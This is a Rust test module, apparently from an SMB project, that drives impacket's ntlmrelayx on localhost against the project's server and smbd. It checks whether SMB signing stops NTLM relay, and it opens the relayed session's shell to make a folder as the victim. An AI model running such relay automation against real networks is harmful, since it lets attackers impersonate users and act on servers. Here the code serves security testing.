//! NTLM relay by the real tool: impacket's ntlmrelayx between a client and a server.

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use rustix::process::Signal;

use super::Setting;
use super::bench::Outcome;
use super::design::{Nature, succeeds};
use super::man::Attack;
use super::subject::{Account, Smbclient, Target};
use crate::Res;
use crate::process::{Beside, find, run};
use crate::report::Tally;
use crate::server::{USER, free_port, wait_port};

/// What the relay came to, for each victim and each setting of each server.
pub(crate) fn tables(tally: &mut Tally, binary: &Path, folder: &Path) -> Res<String> {
    let Some(tool) = find("ntlmrelayx.py") else {
        tally.skip("ntlmrelayx", "impacket's ntlmrelayx.py is not in the path");
        return Ok(String::new());
    };
    let account = Account::default();
    let smbclient = Smbclient::new(folder, &account)?;
    let password = folder.join("password");
    std::fs::write(&password, &account.password).map_err(|e| e.to_string())?;
    let victims = [
        ("smbclient, not signing", Victim::Smbclient(&smbclient)),
        (
            "countersign, requiring signing",
            Victim::Ours(binary, &password),
        ),
    ];
    let mut out = String::from(
        "\n## NTLM relay by ntlmrelayx\n\n\
         | victim | server's signing | Countersign | smbd |\n|---|---|---|---|\n",
    );
    for (client, victim) in &victims {
        for (signing, setting) in [
            ("off", Setting::Unsigned),
            ("offered", Setting::Offered),
            ("required", Setting::Server),
        ] {
            // The relay is a client that cannot sign.
            let nature = Nature {
                eager: false,
                multi_protocol: false,
                takes_guests: false,
                strict: false,
            };
            let design = succeeds(nature, Attack::Hijack, DIALECT, setting);
            let mut cells = Vec::new();
            for subject in ["ours", "smbd"] {
                let target = match subject {
                    "ours" => Target::ours(binary, folder, signing)?,
                    _ => Target::smbd(folder, signing)?,
                };
                let outcome = relay(&tool, folder, &target, victim)?;
                println!("relay of {client} to {subject}, signing {signing}: {outcome:?}");
                if subject == "ours" {
                    let name = format!("ntlmrelayx, {client}, signing {signing}");
                    let result = match &outcome {
                        Outcome::Succeeded(what) if !design => Err(what.clone()),
                        Outcome::Failed if design => Err("did not succeed".to_owned()),
                        Outcome::NotTried(why) => Err(why.clone()),
                        _ => Ok(()),
                    };
                    tally.check(&name, result);
                }
                cells.push(match outcome {
                    Outcome::Succeeded(what) if design => format!("succeeds: {what}"),
                    Outcome::Succeeded(what) => format!("**SUCCEEDS**: {what}"),
                    Outcome::Failed => "fails".to_owned(),
                    Outcome::NotTried(why) => format!("not possible: {why}"),
                });
            }
            out.push_str(&format!(
                "| {client} | {signing} | {} |\n",
                cells.join(" | ")
            ));
        }
    }
    Ok(out)
}

/// What ntlmrelayx speaks at most.
const DIALECT: &str = "SMB2_10";

/// Whose logon is relayed.
enum Victim<'a> {
    Smbclient(&'a Smbclient),
    Ours(&'a Path, &'a Path),
}

impl Victim<'_> {
    fn command(&self, folder: &Path, port: u16) -> Command {
        let mut c = match self {
            Victim::Smbclient(client) => {
                let mut c = client.command(([127, 0, 0, 1], port).into());
                c.args(["-m", DIALECT, "-t", "6", "--option=client signing=disabled"]);
                c.args(["-c", "ls"]);
                c
            }
            Victim::Ours(binary, password) => {
                let mut c = Command::new(binary);
                c.args(["ls", &format!("smb://127.0.0.1:{port}/share")]);
                // What a client requires comes too late: the relay has its answer.
                c.args(["--user", USER, "--sign", "required"]);
                c.args(["--timeout", "6", "--password-file"]).arg(password);
                c.arg("--state").arg(folder.join("client-state"));
                c
            }
        };
        c.current_dir(folder);
        c
    }
}

fn relay(tool: &Path, folder: &Path, target: &Target, victim: &Victim<'_>) -> Res<Outcome> {
    let port = free_port()?;
    // The tool ends when its input does.
    let mut c = Command::new("sh");
    c.args(["-c", "sleep 120 | exec \"$0\" \"$@\""]).arg(tool);
    c.args(["-t", &format!("smb://{}", target.address)]);
    c.args([
        "-smb2support",
        "-i",
        "--no-http-server",
        "--no-wcf-server",
        "--no-raw-server",
    ]);
    c.args([
        "--no-rpc-server",
        "--no-winrm-server",
        "--no-mssql-server",
        "--no-rdp-server",
    ]);
    c.args([
        "--no-multirelay",
        "-ip",
        "127.0.0.1",
        "--smb-port",
        &port.to_string(),
    ]);
    c.current_dir(folder).env("PYTHONUNBUFFERED", "1");
    let mut tool = Beside::start(c, &folder.join("ntlmrelayx.log"))?;
    wait_port(port)?;
    let _ = run(victim.command(folder, port), Duration::from_secs(15))?;
    // The tool says how it went; its shell is then used for what relays are for.
    let end = Instant::now() + Duration::from_secs(10);
    let outcome = loop {
        let log = tool.output();
        if let Some(port) = shell_port(&log) {
            break shell(target, port)?;
        }
        let refused = ["Signing is required", "FAILED", "SessionError"];
        if refused.iter().any(|words| log.contains(words)) {
            break Outcome::Failed;
        }
        if Instant::now() > end {
            let last = log.lines().last().unwrap_or_default().to_owned();
            break Outcome::NotTried(last);
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let _ = tool.stop(Signal::TERM, Duration::from_secs(5));
    Ok(outcome)
}

/// Where the tool opened a shell for its victim's session.
fn shell_port(log: &str) -> Option<u16> {
    let behind = log.split("Started interactive SMB client shell").nth(1)?;
    let digits = behind.split("127.0.0.1:").nth(1)?;
    let end = digits.find(|c: char| !c.is_ascii_digit())?;
    digits.get(..end)?.parse().ok()
}

/// Makes a folder on the server through the relayed session.
fn shell(target: &Target, port: u16) -> Res<Outcome> {
    use std::io::Write;
    let mut stream =
        std::net::TcpStream::connect(("127.0.0.1", port)).map_err(|e| e.to_string())?;
    for line in ["use share", "mkdir relayed"] {
        stream
            .write_all(format!("{line}\n").as_bytes())
            .map_err(|e| e.to_string())?;
        std::thread::sleep(Duration::from_millis(700));
    }
    let made = target.folder().unwrap_or(Path::new(".")).join("relayed");
    let end = Instant::now() + Duration::from_secs(5);
    while Instant::now() < end {
        if made.is_dir() {
            let _ = std::fs::remove_dir(&made);
            return Ok(Outcome::Succeeded(
                "a folder was made as the victim".to_owned(),
            ));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(Outcome::Failed)
}
